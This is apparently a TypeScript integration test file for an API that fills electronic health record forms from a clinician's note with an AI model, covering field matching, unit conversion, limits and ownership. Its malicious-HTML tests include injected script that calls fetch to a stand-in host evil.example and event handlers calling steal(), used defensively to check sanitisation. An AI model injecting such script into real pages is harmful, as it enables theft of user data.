import { MAGIC_FILL_LIMITS } from '@charta/contract';
import { DEFAULT_LIMITS } from '../../functions/src/limits/limits-config.js';
import request from 'supertest';
import { beforeAll, describe, expect, it } from 'vitest';
import { aiEmulatorControl } from '../support/ai-emulator.js';
import { emulatorApi } from '../support/api-app.js';
import { createTestUser, type TestUser } from '../support/auth-users.js';
import { sampleEhrHtml } from '../support/sample-ehr.js';
import { bearer } from '../support/sessions.js';

// A fixed clock: the follow-up date is counted from "today".
const TODAY = new Date('2026-03-02T10:00:00Z');
const { app } = emulatorApi({ now: () => TODAY });
const ai = aiEmulatorControl(process.env['AI_EMULATOR_URL'] ?? '');
const post = (user: TestUser, path: string, body: object) => request(app).post(`/api/v1${path}`).set(bearer(user)).send(body);
const fill = (user: TestUser, body: object) => post(user, '/magic_fill/fill_html2', body);

/** The note as the clinician finished it, section by section (history-and-physical template). */
const NOTE: Record<string, string> = {
  'chief-complaint': 'Dry cough for three days.',
  'history-of-present-illness': 'Dry cough for three days with a mild fever last night. Slightly breathless on stairs. No chest pain.',
  medications: '- Ibuprofen 400 mg orally as needed',
  allergies: '- Penicillin: rash',
  'family-history': 'Not discussed.',
  'physical-examination': '- Temperature 37.4 °C, heart rate 76, blood pressure 128/82\n- Lungs clear on auscultation',
  assessment: 'Viral upper respiratory infection.',
  plan: '- Rest and fluids\n- Paracetamol for fever\n- Follow up in two weeks if not better',
};

/**
 * What the extension sends for the main frame: the live DOM, where React has rendered the plan field and
 * the chief complaint's web component its open shadow root (sent as declarative shadow DOM).
 */
async function liveVisitNoteHtml(): Promise<string> {
  const served = await sampleEhrHtml('/');
  const rendered = served
    .replace(/<div id="plan-root">[\s\S]*?<\/div>/, '<div id="plan-root"><div class="row"><label for="plan">Plan</label><textarea id="plan" name="plan" rows="4"></textarea></div></div>')
    .replace(
      /(<ehr-text-field [^>]*>)(<\/ehr-text-field>)/,
      '$1<template shadowrootmode="open"><label for="chief-complaint">Chief complaint</label><input id="chief-complaint" name="chief_complaint" maxlength="200"></template>$2',
    );
  expect(rendered).not.toContain('<div id="plan-root"><p>');
  expect(rendered).toContain('shadowrootmode');
  return rendered;
}

let owner: TestUser;
let stranger: TestUser;
let documentationId: string;
/** A note whose vitals are stated without units and with one number twice over. */
let vitalsWithoutUnitsId: string;

beforeAll(async () => {
  [owner, stranger] = await Promise.all([createTestUser(), createTestUser()]);
  const created = await post(owner, '/creation', { patientName: 'Fill Test', templateId: 'history-and-physical', text: 'Clinician: What brings you in?\nPatient: A dry cough.' }).expect(201);
  documentationId = created.body.documentation.id as string;
  let counter = created.body.documentation.counter as number;
  for (const [sectionId, content] of Object.entries(NOTE)) {
    counter = (await post(owner, '/session/documentation/section/update_value', { documentationId, sectionId, content, counter }).expect(200)).body.counter as number;
  }
  const other = await post(owner, '/creation', { patientName: 'Fill Units', templateId: 'soap', text: 'Clinician: Let me take your vitals.' }).expect(201);
  vitalsWithoutUnitsId = other.body.documentation.id as string;
  let otherCounter = other.body.documentation.counter as number;
  const save = async (sectionId: string, content: string) => {
    otherCounter = (await post(owner, '/session/documentation/section/update_value', { documentationId: vitalsWithoutUnitsId, sectionId, content, counter: otherCounter }).expect(200)).body.counter as number;
  };
  for (const sectionId of ['subjective', 'assessment', 'plan']) await save(sectionId, 'Not discussed.');
  await save('objective', '- Temperature 38.5, pulse 88, respiratory rate 16');
}, 60_000);

describe('POST /magic_fill/fill_html2', () => {
  it('fills the sample EHR: values that fit each field, a real option for the select, a date for the date field, nothing for what the note does not say', async () => {
    const res = await fill(owner, { documentationId, html: await liveVisitNoteHtml() }).expect(200);
    const bySelector = Object.fromEntries((res.body.fields as { selector: string; label: string; value: string }[]).map((f) => [f.selector, f]));
    // The web component's field, inside its open shadow root, found through its host.
    expect(bySelector['#chief-complaint']).toEqual({ selector: '#chief-complaint', shadowHosts: ['#chief-complaint-field'], label: 'Chief complaint', value: 'Dry cough for three days.' });
    expect(bySelector['#hpi']?.value).toContain('mild fever');
    expect(bySelector['[name="medications"]']?.value).toContain('Ibuprofen 400 mg');
    expect(bySelector['[name="allergies"]']?.value).toContain('Penicillin');
    expect(bySelector['[name="assessment"]']?.value).toBe(NOTE['assessment']);
    expect(bySelector['#diagnosis']?.value).toBe('J06.9');
    expect(bySelector['#follow-up']?.value).toBe('2026-03-16');
    expect(bySelector['#plan']?.value).toContain('Rest and fluids');
    // Never the fields that must stay untouched, never a field nothing in the note fills.
    for (const untouched of ['#signature-password', '#encounter-token', '#attachment', '#mrn', '#visit-id']) expect(bySelector[untouched]).toBeUndefined();
    // The note says nothing of smoking: the radio group is left out, not guessed.
    expect(bySelector['[name="smoking_status"]']).toBeUndefined();
    expect(JSON.stringify(res.body)).not.toMatch(/enc-7731|MRN-000123|password|attachment/i);
    expect(res.body.truncated).toBeUndefined();
    expect(res.body.leftOut).toBeUndefined();
  });

  it('fills the vitals iframe on its own, selectors local to it: each cell in its row’s unit, converted exactly from the note’s', async () => {
    const res = await fill(owner, { documentationId, html: await sampleEhrHtml('/vitals') }).expect(200);
    // The note: "Temperature 37.4 °C, heart rate 76, blood pressure 128/82"; nothing of weight, height,
    // respiration or oxygen, so those cells are left out.
    expect(res.body.fields).toEqual([
      { selector: '#bp-systolic', label: 'BP Systolic (mm/hg), Today', value: '128' },
      { selector: '#bp-diastolic', label: 'BP Diastolic (mm/hg), Today', value: '82' },
      { selector: '#pulse', label: 'Pulse (per min), Today', value: '76' },
      { selector: '#temp-f', label: 'Temperature (F), Today', value: '99.3', note: 'Converted from 37.4 °C (°F = °C × 9/5 + 32), rounded to 0.1.' },
      { selector: '#temp-c', label: 'Temperature (C), Today', value: '37.4' },
      { selector: '#vital-signs', label: 'Vital signs', value: NOTE['physical-examination'] },
    ]);
    expect(res.body.leftOut).toBeUndefined();
    // The model was told each cell's unit, and systolic and diastolic apart (the call log holds the prompt as JSON text).
    expect(await ai.calls('gemini', JSON.stringify('"label":"BP Diastolic (mm/hg), Today","type":"text","unit":"mmHg"').slice(1, -1))).not.toEqual([]);
  });

  it('says what it left out and why: a bound the value breaks, a unitless number that cannot be Fahrenheit, one number proposed for two fields', async () => {
    const html = `<table><thead><tr><th>Vital</th><th>Unit</th><th>Today</th></tr></thead><tbody>
      <tr><td>Temperature</td><td>F</td><td><input name="tf"></td></tr>
      <tr><td>Temperature</td><td>C</td><td><input type="number" name="tc" min="35" max="37.5" step="0.1"></td></tr>
      <tr><td>Pulse</td><td>sitting</td><td><input name="p1"></td></tr>
      <tr><td>Pulse</td><td>standing</td><td><input name="p2"></td></tr>
      <tr><td>Respiration</td><td>per min</td><td><input type="number" name="rr" max="12"></td></tr></tbody></table>`;
    const res = await fill(owner, { documentationId: vitalsWithoutUnitsId, html }).expect(200);
    expect(res.body.fields).toEqual([]);
    expect(res.body.leftOut).toEqual([
      { label: 'Temperature (F), Today', reason: '38.5 is not a plausible temperature in °F.' },
      { label: 'Temperature (C), Today', reason: '38.5 is above the field’s maximum of 37.5.' },
      { label: 'Pulse sitting, Today', reason: 'The note states “88” once, yet it was proposed for 2 fields: left out rather than guessed.' },
      { label: 'Pulse standing, Today', reason: 'The note states “88” once, yet it was proposed for 2 fields: left out rather than guessed.' },
      { label: 'Respiration (per min), Today', reason: '16 is above the field’s maximum of 12.' },
    ]);
  });

  it('answers a select only with one of its options, whatever the note says', async () => {
    const html = '<label for="dx">Diagnosis</label><select id="dx"><option value="">Pick</option><option value="I10">I10 Essential hypertension</option><option value="E11.9">E11.9 Type 2 diabetes</option></select>';
    const res = await fill(owner, { documentationId, html }).expect(200);
    // The note is about a respiratory infection: neither option fits, so the select is left out.
    expect(res.body.fields).toEqual([]);
  });

  it('Ownership: another user\'s or a missing documentation answers 404', async () => {
    const html = await sampleEhrHtml('/vitals');
    expect((await fill(stranger, { documentationId, html }).expect(404)).body.error.code).toBe('not_found');
    await fill(owner, { documentationId: 'no-such-documentation', html }).expect(404);
    await request(app).post('/api/v1/magic_fill/fill_html2').send({ documentationId, html }).expect(401);
  });

  it(`Size: html over ${MAGIC_FILL_LIMITS.htmlBytes} UTF-8 bytes answers 413 naming html; at the limit it is read`, async () => {
    const at = `<input aria-label="Allergies">${' '.repeat(MAGIC_FILL_LIMITS.htmlBytes - 30)}`;
    expect(Buffer.byteLength(at)).toBe(MAGIC_FILL_LIMITS.htmlBytes);
    expect((await fill(owner, { documentationId, html: at }).expect(200)).body.fields).toHaveLength(1);
    const over = (await fill(owner, { documentationId, html: `${at} ` }).expect(413)).body;
    expect(over).toEqual({ error: { code: 'payload_too_large', message: expect.any(String), field: 'html' } });
    // Counted in bytes: 600,000 two-byte characters are 1.2 MB.
    expect((await fill(owner, { documentationId, html: 'é'.repeat(600_000) }).expect(413)).body.error.field).toBe('html');
    // A body over the API's JSON limit is the same 413, in the same shape.
    expect((await fill(owner, { documentationId, html: '"'.repeat(MAGIC_FILL_LIMITS.htmlBytes) }).expect(413)).body.error.code).toBe('payload_too_large');
  });

  it('is limited like every model call: 429 rate_limited with Retry-After past the limit', async () => {
    const limited = emulatorApi({ now: () => TODAY, config: { limits: { ...DEFAULT_LIMITS, rates: { ...DEFAULT_LIMITS.rates, modelCall: [{ limit: 2, windowSec: 60 }] } } } });
    const user = await createTestUser();
    const call = () => request(limited.app).post('/api/v1/magic_fill/fill_html2').set(bearer(user)).send({ documentationId, html: '<input aria-label="Allergies">' });
    // Someone else's documentation: 404, and each request counts whatever it answers.
    await call().expect(404);
    await call().expect(404);
    const refused = await call().expect(429);
    expect(refused.body.error.code).toBe('rate_limited');
    expect(Number(refused.headers['retry-after'])).toBeGreaterThanOrEqual(1);
  });

  it.each([
    [{}, 'html'],
    [{ html: 42 }, 'html'],
    [{ documentationId: undefined, html: '<input>' }, 'documentationId'],
    [{ html: '', extra: 1 }, 'extra'],
  ])('Bad input %j: 400 naming %s', async (fields, field) => {
    expect((await fill(owner, { documentationId, ...fields }).expect(400)).body.error.field).toBe(field);
  });
});

describe('POST /magic_fill/fill_html2 with malicious HTML', () => {
  it('never runs or forwards scripts, styles or event handlers: only labels reach the model', async () => {
    const marker = `secret-${Date.now()}`;
    const html = `<script>window.${marker}=1;fetch('https://evil.example/${marker}')</script><style>.x{content:"${marker}"}</style>
      <img src=x onerror="alert('${marker}')"><label for="cc">Chief complaint</label><input id="cc" onfocus="steal('${marker}')" value="${marker}">
      <textarea aria-label="Allergies">${marker}</textarea><div hidden><input aria-label="Plan ${marker}"></div>`;
    const res = await fill(owner, { documentationId, html }).expect(200);
    expect(res.body.fields.map((f: { selector: string }) => f.selector)).toEqual(['#cc', 'body > textarea:nth-of-type(1)']);
    expect(JSON.stringify(res.body)).not.toContain(marker);
    // The emulator records every prompt it served: none carried the page's scripts, values or hidden parts.
    expect(await ai.calls('gemini', marker)).toEqual([]);
  });

  it(`10,000 fields: answered fast with the first ${MAGIC_FILL_LIMITS.fields} considered and truncated: true`, async () => {
    const html = '<form>' + Array.from({ length: 10_000 }, (_, i) => `<label>Allergies ${i}<input name="a${i}"></label>`).join('') + '</form>';
    const started = Date.now();
    const res = await fill(owner, { documentationId, html }).expect(200);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(res.body.truncated).toBe(true);
    // Every field is "Allergies n": the model puts the one allergy in each, which the note states once, so
    // all are left out as ambiguous rather than filled 500 times.
    expect(res.body.fields).toEqual([]);
    expect(res.body.leftOut.length).toBeGreaterThan(0);
    expect(res.body.leftOut.length).toBeLessThanOrEqual(MAGIC_FILL_LIMITS.fields);
    expect(res.body.leftOut[0].reason).toMatch(/yet it was proposed for \d+ fields: left out rather than guessed/);
  });

  it('deep nesting (200,000 elements) is answered fast; fields below the depth limit are not read', async () => {
    const html = `<label for="cc">Chief complaint</label><input id="cc">${'<div>'.repeat(200_000)}<input aria-label="Allergies">`;
    const started = Date.now();
    const res = await fill(owner, { documentationId, html }).expect(200);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(res.body.fields.map((f: { selector: string }) => f.selector)).toEqual(['#cc']);
  });

  it('a page with no fillable field makes no model call', async () => {
    const marker = `nothing-${Date.now()}`;
    const res = await fill(owner, { documentationId, html: `<p>${marker}</p><input type="password" aria-label="${marker}"><input type="hidden" name="${marker}">` }).expect(200);
    expect(res.body).toEqual({ fields: [] });
  });
});
